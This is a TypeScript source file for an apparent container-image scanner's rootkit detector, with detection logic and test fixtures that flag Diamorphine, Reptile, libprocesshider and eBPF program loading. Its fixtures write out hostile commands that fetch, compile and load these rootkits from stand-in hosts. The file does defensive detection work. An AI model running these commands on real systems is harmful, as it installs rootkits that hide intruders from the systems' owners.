import { literals, render } from '../trace/value.ts';
import { isShortName, namedInUrl, rootkitNamed } from './attack-names.ts';
import type { Detector, FindingDraft, Scene } from './detector.ts';
import { effectsOf } from './effects-of.ts';
import { fileFinding } from './file-finding.ts';
import { findingOf, sightingOf } from './sighting.ts';
import { tellingFiles } from './telling-files.ts';
import { programUse } from './uses.ts';
import { clip } from './wording.ts';

/** Published rootkits, and programs put into the kernel by eBPF. */
export const rootkit: Detector = {
  id: 'rootkit',
  version: 1,
  title: 'Brings a rootkit.',
  attack: ['T1014', 'T1547.006'],
  description: `
Diamorphine, Reptile, libprocesshider and their like hide files, processes and connections from whoever looks. They are
published, and malware fetches and builds them on the spot (\`git clone …/Diamorphine; make; insmod\`). *Malicious* when the
image runs or fetches one, *suspicious* when one lies there. Programs loaded into the kernel with bpftool are a *note*:
monitoring does it, too.
`,
  fires: [
    {
      name: 'fetched and built',
      image: {
        cmd: [
          'sh',
          '-c',
          'git clone https://git.example/m0nad/Diamorphine && cd Diamorphine && make && insmod diamorphine.ko',
        ],
      },
    },
    {
      name: 'a process hider that is fetched',
      image: {
        cmd: [
          'sh',
          '-c',
          'wget -qO /tmp/h.c https://files.example/libprocesshider.c; gcc -shared -o /tmp/h.so /tmp/h.c',
        ],
      },
    },
    {
      name: 'one that lies there',
      severity: 'suspicious',
      image: {
        files: { '/usr/local/lib/libprocesshider.so': { content: '\u007fELF\u0002\u0001\u0001 x', mode: 0o755 } },
      },
    },
    {
      name: 'eBPF',
      severity: 'note',
      image: { cmd: ['sh', '-c', 'bpftool prog load /opt/p.o /sys/fs/bpf/p; exec app'] },
    },
  ],
  silent: [
    {
      name: 'a scanner that knows them',
      image: {
        files: { '/usr/share/rkhunter/db/diamorphine.dat': 'diamorphine\n', '/opt/rules/reptile.yar': 'rule x {}\n' },
      },
    },
    {
      name: 'an animal',
      image: { files: { '/app/reptile.py': 'class Reptile:\n    pass\n', '/usr/bin/reptile-db': '#!/bin/sh\nexit\n' } },
    },
    { name: 'asking which programs are loaded', image: { cmd: ['sh', '-c', 'bpftool prog show; exec app'] } },
  ],
  detect(scene) {
    return [...lying(scene), ...fetched(scene), ...loaded(scene)];
  },
};

const mostFiles = 50;

function lying(scene: Scene): readonly FindingDraft[] {
  const found: FindingDraft[] = [];
  for (const file of tellingFiles(scene).attacks) {
    if (found.length >= mostFiles) break;
    const named = rootkitNamed(file.path);
    const code = file.kind === 'elf' || /\.(c|ko|so)$/.test(file.path);
    if (named === undefined || !code || (isShortName(file.path) && file.kind !== 'elf')) continue;
    const use = programUse(scene, file.path);
    found.push(
      ...fileFinding(scene, {
        threat: 'hostile',
        path: file.path,
        layer: file.layer,
        reach: use?.reach ?? 'present',
        title: `${use === undefined ? 'Holds' : 'Runs'} ${named.what} (${named.name})`,
        text: file.path,
        confidence: 'medium',
      }),
    );
  }
  return found;
}

function fetched(scene: Scene): readonly FindingDraft[] {
  return effectsOf(scene, 'fetch').flatMap((effect) => {
    const url = render(effect.url);
    const named = namedInUrl(url).rootkit;
    if (named === undefined) return [];
    return findingOf(scene, sightingOf(scene, effect), {
      threat: 'hostile',
      title: `Downloads ${named.what} (${clip(url, 100)})`,
      effects: [effect.id],
    });
  });
}

/** `bpftool prog load FILE`, `bpftool prog attach`. */
function loaded(scene: Scene): readonly FindingDraft[] {
  return scene.story.commands.flatMap((command) => {
    const words = command.argv.slice(1, 5).map(literals);
    const loads =
      words.includes('prog') && words.some((word) => word === 'load' || word === 'loadall' || word === 'attach');
    if (command.name !== 'bpftool' || !loads) return [];
    return findingOf(scene, sightingOf(scene, { stage: command.stage, line: command.line, command: command.id }), {
      threat: 'minor',
      title: 'Loads a program of its own into the kernel by eBPF',
      because: 'Monitoring does it openly; so do rootkits.',
      attack: ['T1014'],
      encodingDeceives: false,
    });
  });
}
